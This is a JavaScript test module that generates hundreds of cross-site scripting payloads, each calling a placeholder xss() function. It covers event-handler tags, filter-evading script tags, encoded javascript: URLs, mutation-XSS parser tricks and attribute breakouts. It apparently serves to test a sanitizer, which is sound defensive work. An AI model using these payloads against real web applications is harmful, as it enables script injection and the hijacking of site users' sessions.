// Script-injection payloads, written for this test from the families everybody knows: each calls
// xss(). One array; what varies is spelled out by small tables so that every family meets every trick.

const call = 'xss()'
const entities = (s) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join('')
const hexEntities = (s) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('')
const payloads = []
const add = (...list) => payloads.push(...list)

// Elements that run a handler by themselves.
const selfRunning = [
  ['img src=x', 'onerror'], ['img src=/nothing', 'onerror'], ['svg', 'onload'], ['body', 'onload'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['marquee', 'onstart'], ['object data=x', 'onerror'],
  ['iframe src=about:blank', 'onload'], ['embed src=x', 'onload'], ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'], ['script src=x', 'onerror'], ['a href=# autofocus tabindex=0', 'onfocus'],
  ['div tabindex=0 autofocus contenteditable', 'onfocus'],
]
// Ways to write <TAG HANDLER=CODE>.
const spellings = [
  (tag, on) => `<${tag} ${on}=${call}>`,
  (tag, on) => `<${tag} ${on}="${call}">`,
  (tag, on) => `<${tag} ${on}='${call}'>`,
  (tag, on) => `<${tag.toUpperCase()} ${on.toUpperCase()}=${call}>`,
  (tag, on) => `<${tag.replaceAll(' ', '/')}/${on}=${call}>`,
  (tag, on) => `<${tag}\n${on}\n=\n"${call}"\n>`,
  (tag, on) => `<${tag} ${on}=${entities(call)}>`,
  (tag, on) => `<${tag} x=">" ${on}=${call}>`,
]
for (const [tag, on] of selfRunning) for (const spell of spellings) add(spell(tag, on))

// Scripts, in the ways a filter loses sight of them.
add(
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script >${call}</script >`, `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<<script>${call}//<</script>`,
  `<script>${call}`, `<script><!--\n${call}\n--></script>`, `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`, `</style><script>${call}</script>`, `--><script>${call}</script>`,
  `]]><script>${call}</script>`, `"><script>${call}</script>`, `'><script>${call}</script>`,
  `\`><script>${call}</script>`, `<b><script>${call}</b></script>`, `<svg><script>${call}</script></svg>`,
  `<svg><script>${entities(call)}</script></svg>`, `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<script src="data:text/javascript,${call}"></script>`, `<script type=module>${call}</script>`,
  `<script type="text/javascript">${call}</script>`, `<script nomodule>${call}</script>`,
)

// URLs that are programs, in links and wherever else a URL goes.
const schemes = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java\rscript:',
  '\u0001javascript:', entities('javascript:'), hexEntities('javascript:'), 'javascript&colon;', 'java&Tab;script:',
  'java&NewLine;script:', 'javascript&#58;', 'javascript&#x3A;', '&#14;javascript:', 'data:text/html,<script>parent.',
]
for (const scheme of schemes) {
  add(`<a class=click href="${scheme}${call}">x</a>`, `<iframe src="${scheme}${call}"></iframe>`,
    `<form action="${scheme}${call}"><input type=submit class=click></form>`)
}
add(
  `<a class=click xlink:href="javascript:${call}">x</a>`, `<svg><a xlink:href="javascript:${call}"><text y=20 class=click>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${call}" class=click>x</a></math>`, `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:/"><a class=click href="/*/${call}">x</a>`, `<button class=click formaction="javascript:${call}" form=f>x</button><form id=f></form>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe srcdoc="${entities(`<script>parent.${call}</script>`)}"></iframe>`,
  `<svg><animate href=#a attributeName=href values="javascript:${call}" /><a id=a class=click><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onload to="${call}" /></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  `<div style="background:url(javascript:${call})">x</div>`, `<div style="width:expression(${call})">x</div>`,
  `<style>@import 'javascript:${call}';</style>`, `<link rel=import href="data:text/html,<script>${call}</script>">`,
)

// Markup that changes its meaning when it is parsed a second time.
add(
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<style><p title="</style><img src=x onerror=${call}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>">`, `<title><p title="</title><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`, `<noembed><p title="</noembed><img src=x onerror=${call}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${call}>">`, `<iframe><p title="</iframe><img src=x onerror=${call}>">`,
  `<svg><style><img src=x onerror=${call}></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  `<svg><desc><style><img src=x onerror=${call}></style></desc></svg>`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<table><td background="x"><svg onload=${call}></td></table>`, `<select><template><img src=x onerror=${call}></template></select>`,
  `<template><img src=x onerror=${call}></template>`, `<b title="&quot;&gt;&lt;img src=x onerror=${call}&gt;">x</b>`,
  `<a title="\`><img src=x onerror=${call}>">x</a>`, `<p id="</p><img src=x onerror=${call}>">`, `<!--><img src=x onerror=${call}>-->`,
  `<!--!><img src=x onerror=${call}>-->`, `<!-- --!><img src=x onerror=${call}>`, `<!doctype x><img src=x onerror=${call}>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`, `<![CDATA[<img src=x onerror=${call}>]]>`, `</><img src=x onerror=${call}>`,
  `<b\u0338 onclick=${call}><img src=x onerror=${call}>`, `&lt;img src=x onerror=${call}&gt;`, `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `%3Cimg src=x onerror=${call}%3E`, `\\u003cimg src=x onerror=${call}\\u003e`, `\uff1cimg src=x onerror=${call}\uff1e`,
  `<b>&#x338;<img src=x onerror=${call}>`, `<img src=x onerror=${call}//`, `<img src=x onerror=${call} `, `<img src='x' onerror=${call}`,
)

// Out of the attribute the application may have put the text in.
for (const quote of ['"', "'", '`', '" ', "' ", '"/', "'/"]) {
  for (const rest of [`onmouseover=${call} x=`, `autofocus onfocus=${call} tabindex=0 x=`, `><img src=x onerror=${call}>`,
    `><svg onload=${call}>`, `onclick=${call} class=click x=`]) add(quote + rest)
}

export default payloads
